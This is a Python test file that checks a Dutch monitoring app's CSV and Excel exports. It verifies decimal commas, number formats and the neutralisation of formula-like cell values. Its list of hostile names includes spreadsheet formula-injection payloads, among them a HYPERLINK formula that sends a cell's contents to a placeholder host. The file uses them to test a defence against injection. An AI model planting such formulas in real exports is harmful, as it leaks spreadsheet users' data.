"""Tables as files, without a database: CSV as Dutch Excel opens it, Excel with the screen's
number formats, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from monitoring.charts import Column, Table
from monitoring.charts.exports import csv_number, neutralised, number_format

HOSTILE_NAMES = [
    '=HYPERLINK("http://x?d="&A1,"Klik")',
    "=1+1",
    "@SUM(A1)",
    "+1",
    "-1",
    "\tTab",
    "\rRegel",
]


def _table(names: list[str]) -> Table:
    return Table(
        caption="Namen",
        columns=[
            Column("name", "Naam", decimals=None),
            Column("change", "Verandering", unit="punten", decimals=1),
        ],
        rows=[{"name": name, "change": -2.5} for name in names],
        header_key="name",
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_csv_writes_a_formula_like_name_as_text_with_an_apostrophe(name):
    rows = _csv_rows(_table([name]).to_csv(title="Titel"))
    assert rows[2][0] == "'" + name
    assert rows[2][1] == "-2,5"  # a negative number stays a number


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_an_excel_file_writes_a_formula_like_name_as_a_string_cell_never_a_formula(name):
    sheet = _sheet(_table([name]).to_xlsx(title="Titel"))
    cell = sheet["A3"]
    assert cell.data_type == "s"
    assert cell.value == name.replace("\r", "\n")  # XML reads a carriage return back as \n
    assert cell.quotePrefix
    number = sheet["B3"]
    assert number.data_type == "n" and number.value == -2.5


def test_a_formula_like_title_header_or_source_is_neutralised_too():
    table = Table(caption="=1+1", columns=[Column("=x", "=Kop", decimals=None)], rows=[])
    rows = _csv_rows(table.to_csv(title="=Titel", source="@Bron"))
    assert rows[0] == ["'=Titel"] and rows[1] == ["'=Kop"] and rows[-1] == ["'@Bron"]
    sheet = _sheet(table.to_xlsx(source="=Bron"))
    assert [sheet["A1"].data_type, sheet["A2"].data_type] == ["s", "s"]
    assert sheet["A1"].value == "=1+1"  # the caption is the title when none is given
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_ordinary_text_is_left_as_it_is():
    assert neutralised("Wijk 28 Centrum") == "Wijk 28 Centrum"
    assert neutralised("’s-Hertogenbosch") == "’s-Hertogenbosch"
    assert neutralised("– geen cijfer") == "– geen cijfer"  # an en dash is not a minus


def test_the_csv_opens_in_dutch_excel_as_columns_with_decimal_commas():
    table = Table(
        caption="Scores",
        columns=[
            Column("name", "Naam", decimals=None),
            Column("score", "Score", decimals=0),
            Column("share", "Aandeel", unit="%", decimals=1),
        ],
        rows=[
            {"name": "Noord; oost", "score": 104, "share": 12.345},
            {"name": "Zuid", "score": None, "share": 0.000001},
        ],
    )
    data = table.to_csv(title="Scores — wijken, 2019", source="Bron: CBS")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the accents right
    rows = _csv_rows(data)
    assert rows[0] == ["Scores — wijken, 2019"]
    assert rows[1] == ["Naam", "Score", "Aandeel (%)"]
    assert rows[2] == ["Noord; oost", "104", "12,345"]
    assert rows[3] == ["Zuid", "", "0,000001"]
    assert rows[-1] == ["Bron: CBS"]
    assert csv_number(1e-7) == "0,0" and csv_number(2.0) == "2,0" and csv_number(-1.5) == "-1,5"


def test_excel_cells_carry_the_number_format_the_screen_uses():
    table = Table(
        caption="Indicatoren",
        columns=[
            Column("name", "Indicator", decimals=None),
            Column("value", "Waarde", decimals=1, decimals_key="decimals"),
            Column("index", "Index", decimals=2),
            Column("change", "Verandering", decimals=1, decimals_key="decimals"),
        ],
        rows=[
            {"name": "Inwoners", "value": 5490.0, "index": 101.234, "change": 12.0, "decimals": 0},
            {"name": "Laag inkomen", "value": 8.25, "index": 97.5, "change": -0.4, "decimals": 1},
        ],
    )
    sheet = _sheet(table.to_xlsx())
    counts, percentage = sheet[3], sheet[4]
    assert counts[1].value == 5490 and counts[1].number_format == "#,##0"  # "5.490" in NL Excel
    assert percentage[1].number_format == "#,##0.0"  # "8,3"
    assert counts[2].number_format == "#,##0.00"
    assert counts[3].number_format == "+#,##0;-#,##0;0"
    assert percentage[3].number_format == "+#,##0.0;-#,##0.0;0"
    assert number_format(0) == "#,##0" and number_format(2) == "#,##0.00"
